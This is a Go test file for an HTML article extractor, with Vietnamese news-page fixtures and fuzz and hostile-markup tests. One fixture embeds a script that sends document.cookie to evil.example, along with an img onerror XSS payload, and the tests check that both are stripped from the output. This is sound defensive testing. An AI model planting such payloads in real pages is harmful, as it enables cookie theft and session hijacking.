package markup

import (
	"html"
	"strings"
	"testing"
)

const article = `<!DOCTYPE html><html><head>
<title>Xuất khẩu tăng | Báo Mẫu</title>
<meta property="og:title" content="Xuất khẩu quý I tăng 17%">
<meta property="article:published_time" content="2024-04-02T08:30:00+07:00">
<meta name="author" content="Minh Anh">
<link rel="canonical" href="https://bao.example/xuat-khau-quy-i.html">
<script>document.location="https://evil.example/?"+document.cookie</script>
<style>p{color:red}</style>
</head><body>
<nav><a href="/">Trang chủ</a> <a href="/kinh-te">Kinh tế</a></nav>
<article>
<h1>Xuất khẩu quý I tăng 17%</h1>
<p>Kim ngạch xuất khẩu quý I/2024 ước đạt 93 tỷ USD,<br>tăng 17% so với cùng kỳ.</p>
<p>Trong đó, khu vực có vốn đầu tư nước ngoài chiếm 72%.</p>
<img src=x onerror="alert(1)">
<div hidden>ẩn đi</div>
</article>
<footer>Bản quyền © Báo Mẫu</footer>
</body></html>`

func TestRead(t *testing.T) {
	if !IsHTML(article) || IsHTML("Kim ngạch xuất khẩu tăng <5% so với cùng kỳ") {
		t.Fatal("IsHTML")
	}
	p := Read(article)
	if p.Title != "Xuất khẩu quý I tăng 17%" || p.Published != "2024-04-02T08:30:00+07:00" || p.Author != "Minh Anh" || p.URL != "https://bao.example/xuat-khau-quy-i.html" {
		t.Errorf("metadata: %+v", p)
	}
	for _, with := range []string{"Kim ngạch xuất khẩu quý I/2024 ước đạt 93 tỷ USD,", "tăng 17% so với cùng kỳ.", "chiếm 72%."} {
		if !strings.Contains(p.Text, with) {
			t.Errorf("lost %q in %q", with, p.Text)
		}
	}
	for _, without := range []string{"document.cookie", "color:red", "Trang chủ", "Bản quyền", "ẩn đi", "alert", "<"} {
		if strings.Contains(p.Text, without) {
			t.Errorf("kept %q in %q", without, p.Text)
		}
	}
}

// Broken and hostile markup never panics and never yields a tag as text.
func FuzzRead(f *testing.F) {
	f.Add(article)
	f.Add("<p>tăng 5%<script>x</p>")
	f.Add("<div><<<>>></div><!-- <p>")
	f.Add("<<A0000>script0")
	f.Fuzz(func(t *testing.T, s string) {
		p := Read(s)
		// "&lt;script&gt;" is text that says "<script>"; what must never
		// happen is a tag dropped from between "<" and "script" building one
		if strings.Contains(p.Text, "<script") && !strings.Contains(html.UnescapeString(s), "<script") {
			t.Fatalf("script tag in text: %q", p.Text)
		}
	})
}

// A page that states its article in JSON-LD, with the story in <main> and no
// <article>: the headline without the outlet, the author's name, the text of
// <main> only.
func TestJSONLD(t *testing.T) {
	page := `<!DOCTYPE html><html><head>
<title>Xuất khẩu quý I tăng 17% - Báo Mẫu Điện Tử</title>
<meta property="og:title" content="Xuất khẩu quý I tăng 17% - Báo Mẫu Điện Tử">
<script type="application/ld+json">{"@context":"https://schema.org","@graph":[
 {"@type":"WebSite","name":"Báo Mẫu"},
 {"@type":"NewsArticle","headline":"Xuất khẩu quý I tăng 17%","datePublished":"2024-04-02T08:30:00+07:00",
  "author":[{"@type":"Person","name":"Minh Anh"}],"url":"https://bao.example/a.html"}]}</script>
<script type="application/ld+json">{not json</script>
</head><body>
<div class="menu">Trang chủ Kinh tế Thời sự Thể thao Giải trí Video Podcast Thế giới Pháp luật Giáo dục Sức khỏe</div>
<main><h1>Xuất khẩu quý I tăng 17%</h1>
<p>Kim ngạch xuất khẩu quý I/2024 ước đạt 93 tỷ USD, tăng 17% so với cùng kỳ năm trước, theo số liệu của cơ quan thống kê.</p>
<p>Trong đó, khu vực có vốn đầu tư nước ngoài chiếm 72% tổng kim ngạch xuất khẩu của cả nước trong quý.</p></main>
<div>Bản quyền © Báo Mẫu</div></body></html>`
	p := Read(page)
	if p.Title != "Xuất khẩu quý I tăng 17%" || p.Published != "2024-04-02T08:30:00+07:00" || p.Author != "Minh Anh" || p.URL != "https://bao.example/a.html" {
		t.Errorf("metadata: %+v", p)
	}
	if strings.Contains(p.Text, "Trang chủ") || strings.Contains(p.Text, "Bản quyền") || !strings.Contains(p.Text, "chiếm 72%") {
		t.Errorf("text: %q", p.Text)
	}
}

// Hostile markup (issue 12): a dropped tag does not rebuild one from its
// neighbours, and an icon's <svg><title> is not the page's title.
func TestHostileMarkup(t *testing.T) {
	for _, c := range []struct{ in, text, title string }{
		{"<<A0000>script0", "< script0", ""},
		{"<p>a <<b>/b> c</p>", "a < /b> c", ""},
		{"<p>&lt;script&gt; là thẻ HTML</p>", "<script> là thẻ HTML", ""},
		{`<html><head><title>Xuất khẩu tăng 17%</title></head><body><a><svg><title>Facebook</title></svg></a><p>Nội dung</p></body></html>`, "Nội dung", "Xuất khẩu tăng 17%"},
		{`<html><head><title>Xuất khẩu</title></head><body><title>Lần hai</title><p>x</p></body></html>`, "x", "Xuất khẩu"},
	} {
		p := Read(c.in)
		if strings.TrimSpace(p.Text) != c.text || p.Title != c.title {
			t.Errorf("Read(%q) = text %q title %q; want %q, %q", c.in, p.Text, p.Title, c.text, c.title)
		}
	}
}
